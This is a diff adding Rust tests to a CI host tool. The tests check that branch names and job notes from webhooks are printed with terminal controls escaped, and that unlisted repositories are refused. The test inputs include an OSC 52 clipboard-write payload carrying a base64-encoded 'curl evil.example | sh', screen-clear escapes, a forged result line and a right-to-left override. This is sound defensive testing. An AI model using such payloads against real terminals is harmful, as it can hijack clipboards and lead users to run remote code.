@@ -171,3 +171,69 @@ fn check_config_prints_the_effective_configuration_with_secret_files_not_their_c
         "not TOML: {printed}"
     );
 }
+
+/// A branch name from a webhook and a note from a job's end reach `jobs list/show` with their
+/// terminal controls escaped: no OSC 52 clipboard write, no screen clear, no forged line.
+#[test]
+fn jobs_list_and_show_escape_terminal_controls_in_branch_names_and_notes() {
+    let dir = setup();
+    let store = Store::open(&dir.path().join("data/sdci.sqlite3")).unwrap();
+    let osc52 = "feature\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";
+    let id = store
+        .insert_job(&sdci_host::store::NewJob {
+            repo: REPO.parse().unwrap(),
+            sha: sha(9).parse().unwrap(),
+            reason: sdci_protocol::Reason::Push,
+            branch: Some(osc52.into()),
+            supersede_key: None,
+            clone_url: "https://github.com/x/y.git".into(),
+            version: Some("4.2".into()),
+            snapshot: None,
+            update_first: false,
+            commit_author: None,
+            commit_subject: None,
+        })
+        .unwrap();
+    let note = "done\u{1b}[2J\u{1b}[H\n=== result: success\u{9b}31m\u{202e}";
+    store.finish(&id, JobState::Failure, note, true).unwrap();
+    for args in [vec!["jobs", "list"], vec!["jobs", "show", id.as_str()]] {
+        let (code, out, err) = host(dir.path(), &args);
+        assert_eq!(code, 0, "{err}");
+        assert!(
+            !out.chars()
+                .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
+            "{args:?} printed a control character: {out:?}"
+        );
+        assert!(
+            out.contains("\\x1b[2J\\x1b[H\\x0a=== result: success\\u{9b}31m\\u{202e}"),
+            "{out}"
+        );
+        assert!(
+            !out.lines().any(|l| l.starts_with("=== result")),
+            "no forged line: {out}"
+        );
+    }
+    let (_, out, _) = host(dir.path(), &["jobs", "show", id.as_str()]);
+    assert!(out.contains("branch feature\\x1b]52;c;"), "{out}");
+}
+
+#[test]
+fn a_manual_run_of_a_repository_outside_webhook_repos_is_refused() {
+    let dir = setup();
+    let (code, _, err) = host(
+        dir.path(),
+        &[
+            "run",
+            "--repo",
+            "evil/repo",
+            "--version",
+            "4.2",
+            "--commit",
+            &sha(5),
+        ],
+    );
+    assert_ne!(code, 0);
+    assert!(err.contains("not in webhook.repos"), "{err}");
+    let store = Store::open(&dir.path().join("data/sdci.sqlite3")).unwrap();
+    assert_eq!(store.count_jobs().unwrap(), 0);
+}
